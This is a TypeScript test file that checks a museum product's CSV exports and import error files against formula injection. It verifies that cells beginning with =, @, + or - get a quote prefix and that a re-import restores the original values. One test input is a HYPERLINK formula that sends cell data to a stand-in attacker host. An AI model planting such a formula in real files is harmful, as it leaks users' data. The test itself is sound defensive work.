import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Api, Response } from '../support/api';
import { adminClients, unique } from './context';
import { csv, importClient, ok } from './import-client';

type Row = Record<string, string>;

/**
 * Formula injection (issue 27): text a museum stores may start like a formula, and a CSV opened
 * in a spreadsheet would run it. Every CSV the product writes prefixes such a cell with a single
 * quote, as OWASP's "CSV Injection" says, numbers included; an import reads its own file back.
 */
describe('every CSV the product writes neutralises formulas', () => {
  let api: Api;
  const link = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
  const read = (res: Response): Row[] => {
    expect(res.status, String(res.body)).toBe(200);
    return parse(String(res.body), { bom: true, columns: true });
  };

  beforeAll(async () => {
    ({ demo: api } = await adminClients());
  });

  it('the POI, POI group and news exports: =HYPERLINK, =1+1, @SUM(1,1), and a stored negative number', async () => {
    const group = ok(await api.post('/point-of-interest-groups', { title: `@SUM(1,1) ${unique('')}` }), 'group');
    const poi = ok(
      await api.post('/api/point-of-interests', {
        group: { id: group.id },
        // A museum in Lisbon: a longitude west of Greenwich, and the detection range (always negative).
        location: { location: '-1 floor', latitude: 38.7223, longitude: -9.1393 },
        beaconSensitivityRange: { min: -80, max: -20 },
        content: [{ language: 'en', title: link, subtitle: '@SUM(1,1)', description: '=1+1' }],
      }),
      'poi',
    );
    const [row] = read(await api.get(`/api/point-of-interests/export?idList=${poi.id}`));
    expect(row).toMatchObject({ Title: `'${link}`, Subtitle: "'@SUM(1,1)", Description: "'=1+1", Address: "'-1 floor", Latitude: '38.7223' });
    // OWASP makes no exception for numbers: a cell starting with a minus is text.
    expect(row).toMatchObject({ Longitude: "'-9.1393", 'Detection Range Min (dBm)': "'-80", 'Detection Range Max (dBm)': "'-20" });

    const groups = read(await api.get(`/api/point-of-interest-groups/export?idList=${group.id}`));
    expect(groups[0].Title).toBe(`'${group.title}`);

    const news = ok(await api.post('/api/news', { date: '2026-11-20', published: true, content: [{ language: 'en', title: '=1+1', description: `+${link}` }] }), 'news');
    const [item] = read(await api.get(`/api/news/export?idList=${news.id}`));
    expect(item).toMatchObject({ Title: "'=1+1", Description: `'+${link}` });
    ok(await api.delete(`/api/news?idList=${news.id}`), 'delete news');
  });

  it("an import's invalid-rows CSV quotes formulas, and the same file imported again reads the cells as they were", async () => {
    const steps = importClient(() => api);
    const file = csv([
      ['Inventory Number', 'Object Name', 'Subtitle'],
      ['', link, '@SUM(1,1)'],
      ['', '=1+1', '-5'],
    ]);
    const batch = await steps.dryRun('formulas.csv', file);
    expect(batch.counts.invalid).toBe(2);
    const { url } = ok(await api.get(`/api/imports/${batch.id}/invalid-rows`));
    const text = await (await fetch(url)).text();
    const lines = parse(text, { bom: true }) as string[][];
    expect(lines.slice(1).map((l) => l.slice(0, 4))).toEqual([
      ['', `'${link}`, "'@SUM(1,1)", '2'],
      ['', "'=1+1", "'-5", '3'],
    ]);

    // Fixed (an inventory number added) and imported back: the quote was the file's, not the museum's.
    const numbers = [unique('FX-A-'), unique('FX-B-')];
    const fixed = csv([['Inventory Number', 'Object Name', 'Subtitle'], ...lines.slice(1).map((l, i) => [numbers[i], l[1], l[2]])]);
    const again = await steps.dryRun('fixed.csv', fixed);
    expect(again.counts).toMatchObject({ create: 2, invalid: 0 });
    await steps.commit(again);
    const saved = await Promise.all(numbers.map(async (n) => ok(await api.get(`/api/objects?inventoryNumber=${n}`)).content[0]));
    expect(saved.map((o) => [o.objectName, o.subtitle])).toEqual([
      [link, '@SUM(1,1)'],
      ['=1+1', '-5'],
    ]);
  });
});
